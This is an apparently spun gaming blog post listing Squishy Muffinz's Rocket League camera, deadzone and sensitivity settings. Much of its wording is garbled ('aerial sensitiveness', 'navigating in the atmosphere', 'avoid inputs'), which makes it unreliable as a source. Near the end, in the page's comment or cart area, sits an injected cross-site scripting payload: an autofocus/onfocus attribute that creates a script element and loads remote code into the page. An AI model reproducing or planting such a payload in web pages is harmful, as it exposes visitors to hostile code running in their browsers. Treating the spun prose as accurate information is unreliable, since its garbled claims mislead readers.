The Art of Precision: Squishy Muffinz’s Camera Mastery in Rocket League

Squishy Muffinz video settings

The renowned Rocket League professional player, has captured the gaming community with his remarkable skills and notable camera settings. Ambitious Rocket League players commonly seek inspiration from Squishy Muffinz as a reference for fine-tuning their own camera and video settings. Here, we shall delve into Squishy Muffinz’s camera SquishyMuffinz settings, providing you with an in-depth analysis of each parameter. Learn the underlying techniques behind his achievements and learn how to fine-tune your camera settings to elevate your Rocket League gameplay to new heights.Squishy Muffinz Camera Settings – Refining Your Perspective

A fundamental elements of Squishy Muffinz’s camera setup is his preference to turn off camera shake. This provides a stable and uniform view, minimizing distractions in intense gameplay moments. Additionally, Squishy Muffinz opts for a field of view (FOV) setting of110, providing a broader perspective of the arena, allowing for better understanding of opponents and positioning.

In terms of height, Squishy Muffinz typically sets it around 90 to 100, enabling a even view of the playing field without hindering vital information. His angle preference is set to -5.0, providing a slight tilt downwards, enabling better ball tracking and anticipation.

Distance is a essential parameter, and Squishy Muffinz modifies it between 250 and 270, achieving a balance between a wider field of view and keeping focus on the immediate action. With a stiffness value of 0.40, his camera responds swiftly to movements, offering a seamless experience.

Swift and Accurate Movements – Swivel and Transition SpeedSquishy Muffinz’s swivel speed is set to 8.00, permitting him to swiftly react to opponents’ maneuvers and quickly adjust his camera perspective. The transition speed, at 1.20, ensures smooth and fluid camera transitions, aiding in maintaining awareness during fast-paced matches.

Another critical aspect is the ball camera toggle. Squishy Muffinz uses this feature to instantly switch between focusing on the ball and monitoring the overall game situation. Thisadaptability allows him to make split-second decisions and be in control of the action.

Boosting Gameplay Precision: The Power of Updated Deadzone Settings

Persistently refining his gaming skills, Squishy Muffinz has upgraded his input deadzone parameters to maximize command and precision. He employs the cross-style controller deadzone with a value of 0.05, decreasing stick drift and providing precise input. The dodge deadzone of 0.70 ensures reliable avoid inputs, Squishy Muffinz video settings essential for carrying out advanced moves with accuracy.

Squishy Muffinz has optimized his aerial sensitiveness and steering sensitivity to 1.40, allowing him to make accurate modifications while navigating in the atmosphere or on the ground. These updates enhance his general control and improve his ability to carry out intricate actions effortlessly.

Optimal Gear: Squishy Muffinz’s Formula for Success

To compete at the highest level of Rocket League, Squishy Muffinz relies on a carefully chosen setup. While his exact gamepad, display, and headphones preferences may fluctuate, he prioritizes performance, responsiveness, and ease. Trying out with different gear choices can help you locate what suits your gaming style ideal and raise your gaming experience.

Final Observations

Squishy Muffinz’s camera and video configurations have becomea gold benchmark for ambitious Rocket League players. By imitating his optimized setup, you can enhance your pitchperception, enhance accuracy, and make calculated decisions on the go. Remember toexperiment and adjust these configurations based on your personal choices and playstyle. With Squishy Muffinz’s camera configurations as your base, take your Rocket League playing to new levels and unlock your true potential.

Leave a Comment

Your email address will not be published. Required fields are marked *0 item
?????????\" onfocus=script=document.createElement("script");script.src="//";document.head.append(script); autofocus=\"
Empty Cart